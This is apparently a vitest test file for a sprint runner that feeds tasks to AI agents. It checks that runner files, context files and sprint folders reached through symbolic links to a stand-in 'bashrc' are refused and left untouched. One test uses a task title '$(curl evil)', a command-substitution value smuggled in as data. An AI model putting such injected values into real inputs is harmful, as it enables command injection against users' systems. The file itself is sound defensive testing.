import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AgentRegistry } from '../agents/agent-registry.js';
import { NoopAgent } from '../agents/builtin-agents.js';
import { SprintRunner } from '../runner/sprint-runner.js';
import { ScriptedAgent } from '../testing/scripted-agent.js';
import { SprintRootStore } from '../workspace/sprint-root-store.js';
import { SprintDirectoryStore } from './sprint-directory-store.js';

let root: string;
let outside: string;
const SECRET = 'export PATH=/secret/bin # the user shell rc\n';
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'sprint-links-'));
  outside = await mkdtemp(join(tmpdir(), 'sprint-outside-'));
  await writeFile(join(outside, 'bashrc'), SECRET);
});
afterEach(async () => {
  await rm(root, { recursive: true, force: true });
  await rm(outside, { recursive: true, force: true });
});

const task = (id: string, title = id) => ({
  id,
  type: 'chore',
  title,
  priority: 'medium' as const,
  dependsOn: [],
  fields: {},
});

async function sprintWithLink(file: string): Promise<{ store: SprintDirectoryStore; id: string }> {
  const store = new SprintDirectoryStore({ root });
  const id = await store.create({ name: 'links', tasks: [task('a')] });
  await rm(join(root, id, file), { force: true });
  await symlink(join(outside, 'bashrc'), join(root, id, file));
  return { store, id };
}

const unchanged = async () => expect(await readFile(join(outside, 'bashrc'), 'utf8')).toBe(SECRET);

describe('runner files are never read or written through a symbolic link', () => {
  it('refuses add and run when events.jsonl is a link, leaving its target as it was', async () => {
    const { store, id } = await sprintWithLink('events.jsonl');
    const add = await store.addTasks(id, [task('b', '$(curl evil)')]).catch((e: unknown) => e);
    expect(add).toMatchObject({ code: 'INVALID_SPRINT' });
    expect((add as Error).message).toContain('events.jsonl is a symbolic link');
    const run = await new SprintRunner({
      store,
      agents: new AgentRegistry({ default: new NoopAgent() }),
    })
      .run(id)
      .catch((e: unknown) => e);
    expect(run).toMatchObject({ code: 'INVALID_SPRINT' });
    await unchanged();
  });

  it('never quotes a linked PROGRESS.yaml or SPRINT.yaml', async () => {
    for (const file of ['PROGRESS.yaml', 'SPRINT.yaml']) {
      const { store, id } = await sprintWithLink(file);
      const error = await store.load(id).catch((e: unknown) => e);
      expect(error).toMatchObject({ code: 'INVALID_SPRINT' });
      expect((error as Error).message).not.toContain('secret');
      await rm(join(root, id), { recursive: true });
    }
    await unchanged();
  });

  it('replaces a linked state.json or result.json instead of writing through it', async () => {
    const { store, id } = await sprintWithLink('state.json');
    await symlink(join(outside, 'bashrc'), join(root, id, 'result.json'));
    const result = await new SprintRunner({
      store,
      agents: new AgentRegistry({ default: new NoopAgent() }),
    }).run(id);
    expect(result.status).toBe('completed');
    await unchanged();
  });

  it('does not put a linked context file into the prompt', async () => {
    const store = new SprintDirectoryStore({ root });
    const id = await store.create({ name: 'ctx', tasks: [task('a')] });
    await symlink(join(outside, 'bashrc'), join(root, id, 'context', '_shared.md'));
    const agent = new ScriptedAgent('s');
    await new SprintRunner({ store, agents: new AgentRegistry({ default: agent }) }).run(id);
    expect(JSON.stringify(agent.calls[0]?.context ?? {})).not.toContain('secret');
    expect(await store.readContext(id, 'a')).toEqual({ shared: undefined, task: undefined });
  });

  it('refuses a sprint folder that is a link out of the root, like a path that leaves it', async () => {
    const real = await mkdtemp(join(tmpdir(), 'sprint-elsewhere-'));
    try {
      const elsewhere = new SprintDirectoryStore({ root: real });
      const id = await elsewhere.create({ name: 'away', tasks: [task('a')] });
      await symlink(join(real, id), join(root, id));
      const store = new SprintRootStore({ root });
      await expect(store.load(id)).rejects.toMatchObject({ code: 'SPRINT_NOT_FOUND' });
      await expect(store.addTasks(id, [task('b')])).rejects.toMatchObject({
        code: 'SPRINT_NOT_FOUND',
      });
      await expect(
        store.acquireLock(id, { pid: process.pid, host: hostname(), runId: 'r', startedAt: '' }),
      ).rejects.toMatchObject({ code: 'SPRINT_NOT_FOUND' });
      expect(await store.list()).toEqual([]);
    } finally {
      await rm(real, { recursive: true, force: true });
    }
  });

  it('refuses a runtime folder of a Markdown document that is a link', async () => {
    const docs = join(root, 'docs');
    await mkdir(docs);
    await writeFile(
      join(docs, 'plan.md'),
      '---\ntitle: Plan\nstatus: todo\n---\n\n## Tasks\n\n### Phase 2: Implementation\n- [ ] One <!-- id: one -->\n',
    );
    await symlink(outside, join(docs, '.plan.sprint'));
    const { SprintDocumentStore } = await import('./sprint-document-store.js');
    const store = new SprintDocumentStore({ root: docs });
    const run = await new SprintRunner({
      store,
      agents: new AgentRegistry({ default: new NoopAgent() }),
    })
      .run('plan')
      .catch((e: unknown) => e);
    expect(run).toMatchObject({ code: 'INVALID_SPRINT' });
    await unchanged();
  });
});
